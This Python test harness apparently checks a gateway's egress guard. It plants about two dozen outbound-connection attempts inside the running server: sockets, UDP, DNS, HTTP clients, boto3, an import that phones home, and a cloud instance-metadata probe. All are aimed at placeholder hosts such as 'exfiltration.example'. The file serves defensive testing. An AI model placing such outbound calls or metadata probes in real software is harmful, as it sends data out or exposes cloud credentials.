"""`python -m tests.egress.planted`: the real `douane serve`, in which something tries to leave.

`POST /planted/NAME` makes the attempt of that name inside the gateway's process and answers with what it met.
With `UNGUARDED` in the environment the guard of the process is not put up.
"""

from __future__ import annotations

import asyncio
import importlib
import os
import socket
import sys
import urllib.request
from collections.abc import Awaitable, Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from unittest import mock

import aiohttp
import boto3
import httpx
import requests
import uvloop
from botocore.config import Config
from fastapi import FastAPI

from gateway import app
from gateway.cli import serve

ADDRESS = "203.0.113.9"
NAME = "exfiltration.example"
SHORT_S = 3.0


def in_thread(attempt: Callable[[], object]) -> Callable[[], Awaitable[None]]:
    """The attempt in a thread of its own, as an unknown library would make it."""

    async def run() -> None:
        with ThreadPoolExecutor(1) as thread:
            await asyncio.get_running_loop().run_in_executor(thread, attempt)

    return run


def by_socket() -> None:
    socket.create_connection((ADDRESS, 443), timeout=SHORT_S)


def by_socket_6() -> None:
    socket.create_connection(("2001:db8:9::9", 443), timeout=SHORT_S)


def by_mapped_address() -> None:
    with socket.socket(socket.AF_INET6) as one:
        one.settimeout(SHORT_S)
        one.connect((f"::ffff:{ADDRESS}", 8446))


def by_datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"content", (ADDRESS, 9999))


def by_message() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendmsg([b"content"], [], 0, (ADDRESS, 9998))


def by_dns() -> None:
    socket.getaddrinfo(NAME, 443)


def by_dns_of_old() -> None:
    socket.gethostbyname(f"old.{NAME}")


def by_reverse_dns() -> None:
    socket.gethostbyaddr(ADDRESS)


def by_urllib() -> None:
    urllib.request.urlopen(f"https://urllib.{NAME}/", timeout=SHORT_S)


def by_requests() -> None:
    requests.post(f"https://{ADDRESS}:4433/", data=b"content", timeout=SHORT_S)


def by_httpx() -> None:
    httpx.post(f"https://httpx.{NAME}/", content=b"content", timeout=SHORT_S)


def by_instance_metadata() -> None:
    requests.get("http://169.254.169.254/latest/meta-data/", timeout=SHORT_S)


def by_boto3() -> None:
    """A service that no place is: the region's object store, where invocation logs would go."""
    once = Config(connect_timeout=SHORT_S, retries={"total_max_attempts": 1})
    client = boto3.client(
        "s3", region_name="us-west-2", config=once, aws_access_key_id="x", aws_secret_access_key="y"
    )
    client.list_buckets()


def by_import() -> None:
    """A module that fetches something when it is imported, as litellm does unless it is told not to."""
    importlib.import_module("tests.egress.phones_home")


async def by_loop() -> None:
    loop = asyncio.get_running_loop()
    async with asyncio.timeout(SHORT_S):
        await loop.create_connection(asyncio.Protocol, ADDRESS, 8443)


async def by_loop_and_name() -> None:
    loop = asyncio.get_running_loop()
    async with asyncio.timeout(SHORT_S):
        await loop.create_connection(asyncio.Protocol, f"loop.{NAME}", 443)


async def by_loop_look_up() -> None:
    async with asyncio.timeout(SHORT_S):
        await asyncio.get_running_loop().getaddrinfo(f"look-up.{NAME}", 443)


async def by_loop_and_socket() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.setblocking(False)
        async with asyncio.timeout(SHORT_S):
            await asyncio.get_running_loop().sock_connect(one, (ADDRESS, 8444))


async def by_loop_datagram() -> None:
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        asyncio.DatagramProtocol, remote_addr=(ADDRESS, 9997)
    )
    transport.sendto(b"content")
    await asyncio.sleep(0.05)
    transport.close()


async def by_loop_datagram_without_a_peer() -> None:
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        asyncio.DatagramProtocol, local_addr=("0.0.0.0", 0)
    )
    transport.sendto(b"content", (ADDRESS, 9996))
    await asyncio.sleep(0.05)
    transport.close()


async def by_aiohttp() -> None:
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(SHORT_S)) as http:
        await http.post(f"https://{ADDRESS}:8445/", data=b"content")


async def by_aiohttp_and_name() -> None:
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(SHORT_S)) as http:
        await http.post(f"https://aiohttp.{NAME}/", data=b"content")


async def by_async_httpx() -> None:
    async with httpx.AsyncClient(timeout=SHORT_S) as http:
        await http.post(f"https://async-httpx.{NAME}/", content=b"content")


ATTEMPTS: dict[str, Callable[[], Awaitable[None]]] = {
    **{
        one.__name__: in_thread(one)
        for one in (
            by_socket, by_socket_6, by_mapped_address, by_datagram, by_message, by_dns, by_dns_of_old,
            by_reverse_dns, by_urllib, by_requests, by_httpx, by_instance_metadata, by_boto3, by_import,
        )
    },
    **{
        one.__name__: one
        for one in (
            by_loop, by_loop_and_name, by_loop_look_up, by_loop_and_socket, by_loop_datagram,
            by_loop_datagram_without_a_peer, by_aiohttp, by_aiohttp_and_name, by_async_httpx,
        )
    },
}  # fmt: skip


def chain(error: BaseException | None) -> list[str]:
    """The types of an error and of what it came from."""
    names: list[str] = []
    while error is not None and len(names) < 20:
        names.append(type(error).__name__)
        error = error.__cause__ or error.__context__
    return names


def with_attempts(make: Callable[..., FastAPI]) -> Callable[..., FastAPI]:
    def create_app(*given: Any, **named: Any) -> FastAPI:
        made = make(*given, **named)

        @made.post("/planted/{name}")
        async def planted(name: str) -> dict[str, Any]:
            try:
                await ATTEMPTS[name]()
            except Exception as error:
                return {"met": chain(error), "text": str(error)}
            return {"met": [], "text": ""}

        return made

    return create_app


def main() -> None:
    mock.patch("gateway.serving.create_app", with_attempts(app.create_app)).start()
    if os.environ.pop("UNGUARDED", None):
        mock.patch("gateway.cli.serve.install").start()
        mock.patch("gateway.cli.serve.guarded_loop", return_value=uvloop.new_event_loop).start()
    serve.serve.main(sys.argv[1:], prog_name="douane serve")


if __name__ == "__main__":
    main()
